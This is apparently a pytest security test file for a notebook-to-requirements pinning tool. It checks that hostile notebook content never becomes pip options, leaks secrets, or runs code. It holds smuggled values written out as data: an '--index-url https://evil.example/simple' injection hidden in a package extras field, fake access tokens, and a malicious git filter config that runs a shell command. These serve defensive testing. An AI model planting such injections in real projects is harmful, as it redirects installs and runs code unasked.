"""pin on hostile and odd notebooks: nothing runs, nothing leaks, nothing becomes a pip option."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

from nb2prod.pin.era import git_commit_date, parse_date
from nb2prod.pin.evidence import output_versions
from nb2prod.pin.mapping import Environment
from nb2prod.pin.resolve import pin_notebooks, requirements_in
from tests.helpers import code, load, ran, ran_on, stream, write

BARE = Environment()


def _requirement_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def test_notebook_text_never_becomes_an_option_line() -> None:
    notebook = load(ran("import __pre\nimport __no_index\nimport café\nimport numpy"),
                    path="x\n-e .\n.ipynb")
    text = requirements_in(pin_notebooks([notebook], BARE))
    assert all(not line.lstrip().startswith("-") for line in text.splitlines())
    assert [line.split()[0] for line in _requirement_lines(text)] == ["numpy"]
    assert "# unresolved import __pre" in text


def test_secrets_in_versions_and_urls_never_reach_requirements_in() -> None:
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    cells = [code("!pip list", 1, [stream(f"Package Version\npandas 1.2.3+AKIAIOSFODNN7EXAMPLE\n"
                                          f"requests 2.0.0+{token}\ntorch 2.1.0+cu118\n")]),
             code(f"!pip install https://u:p@ss@host/x.whl?sig={token}\n"
                  "import pandas, requests, torch", 2)]
    text = requirements_in(pin_notebooks([load(cells)], BARE))
    assert "AKIA" not in text and token not in text and "p@ss" not in text
    assert "pandas==1.2.3  #" in text and "torch==2.1.0+cu118  #" in text


def test_extras_that_are_no_extras_are_dropped() -> None:
    cells = ran("!pip install 'numpy[x --index-url https://evil.example/simple]' 'flask[async]>=2'\n"
                "import numpy, flask")
    lines = _requirement_lines(requirements_in(pin_notebooks([load(cells)], BARE)))
    assert [line.split("  #")[0] for line in lines] == ["Flask[async]>=2", "numpy"]


def test_a_printed_series_is_no_package_list_but_pip_output_is_evidence() -> None:
    cells = [code("df.dtypes", 1, [stream("numpy    0.25\n" + "a" + " " * 50_000 + "1.0\n")]),
             code("!pip install peft", 2, [stream(
                 "Requirement already satisfied: torchdata in /usr/lib/python3/site-packages "
                 "(0.5.1)\nSuccessfully installed peft-0.3.0.dev0 numpy-1.21.6\n")])]
    found = {(v.name, v.version) for v in output_versions(load(cells))}
    assert found == {("torchdata", "0.5.1"), ("peft", "0.3.0.dev0"), ("numpy", "1.21.6")}


def test_conda_packages_are_not_pip_requirements() -> None:
    result = pin_notebooks([load(ran("!conda install graphviz -y\nimport numpy"))], BARE)
    assert [r.distribution for r in result.requirements] == ["numpy"]
    assert "installs 'graphviz' with conda" in requirements_in(result)


def test_python_2_cells_keep_their_imports_and_pythons_are_reconciled(tmp_path: Path) -> None:
    old = load(ran('import numpy\nprint "hello"'), **ran_on("3.5"))
    new = load(ran("import pandas"), **ran_on("3.8"))
    result = pin_notebooks([old, new], BARE)
    assert {r.distribution for r in result.requirements} == {"numpy", "pandas"}
    assert result.python == "3.8" and "ran on Python 3.5, 3.8" in result.python_note


def test_dates_keep_their_offset_and_reject_trailing_text() -> None:
    assert parse_date("2019-01-01T10:00+05:00", "x").iso == "2019-01-01T05:00:00Z"
    assert parse_date("2019-01-01junk --index-url x", "x") is None
    assert parse_date("２０１９-01-01", "x") is None


def test_a_repository_filter_never_runs_when_reading_the_commit_date(tmp_path: Path) -> None:
    marker = tmp_path / "filter-ran"
    notebook = write(tmp_path, "nb.ipynb", ran("import numpy"))
    environment = {**os.environ, "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}

    def git(*args: str) -> None:
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C",
                        str(tmp_path), *args], check=True, capture_output=True, env=environment)

    git("init", "-q")
    (tmp_path / ".gitattributes").write_text("*.ipynb filter=evil\n")
    git("add", "-A")
    git("commit", "-q", "-m", "x")
    git("config", "filter.evil.clean", f"sh -c 'touch {marker}; cat'")
    git("config", "filter.evil.process", f"sh -c 'touch {marker}'")
    os.utime(notebook, (1, 1))  # stat changed: git would re-hash it through the filter
    found = git_commit_date(str(notebook))
    assert not marker.exists()
    assert found is not None


def test_a_fifo_is_a_one_line_error(tmp_path: Path) -> None:
    fifo = tmp_path / "nb.ipynb"
    os.mkfifo(fifo)
    result = subprocess.run([sys.executable, "-m", "nb2prod", "pin", str(fifo), "--no-compile"],
                            capture_output=True, text=True, cwd=tmp_path, timeout=60, check=False)
    assert result.returncode == 2 and "not a regular file" in result.stderr
    assert result.stderr.count("\n") == 1
